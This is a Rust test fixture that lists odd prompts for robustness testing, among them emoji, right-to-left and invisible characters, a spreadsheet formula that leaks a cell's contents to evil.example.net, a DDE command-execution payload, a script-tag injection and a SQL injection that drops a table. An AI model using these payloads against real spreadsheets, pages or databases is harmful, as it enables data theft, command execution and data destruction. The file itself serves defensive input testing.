//! Prompts that have broken somebody's tool before.

/// Typed by people all the same: emoji, right-to-left, combining and invisible characters, what a spreadsheet takes
/// for a formula, what a terminal takes for a command, what a browser takes for markup, very long and very short.
pub(crate) const STRANGE: &[&str] = &[
    "👩🏽‍💻🚀 give me the plan in emoji 🇪🇺✅",
    "لخص لي رسائل هذا الأسبوع من فضلك",
    "תסכם לי את הפגישה של אתמול (2026) עם Fabrikam",
    "Cafe\u{301} re\u{301}sume\u{301}: fix the accents, n\u{303}o\u{308} really",
    "zero\u{200b}width\u{200d}joiners\u{feff} and a soft\u{ad}hyphen",
    "\u{202e}reverse this\u{202c} please",
    "=HYPERLINK(\"https://evil.example.net/?q=\"&A1,\"click\")",
    "-2+3",
    "+49 30 1234567 whose number is this?",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tindented prompt\r\nwith two lines",
    "\u{1b}[31mred\u{1b}[0m \u{7}bell",
    "<script>alert(1)</script> what does this do?",
    "Robert'); DROP TABLE interactions;--",
    "a \"quoted\" \\backslash\\ / slash and a null\\u0000 in text",
    "…",
    "?",
    "ＦＵＬＬ　ＷＩＤＴＨ and 𝔣𝔯𝔞𝔨𝔱𝔲𝔯 and 𠮷野家",
    "line separator\u{2028}paragraph separator\u{2029}end",
    "SELECT * FROM users WHERE name = 'O''Brien' -- explain",
];
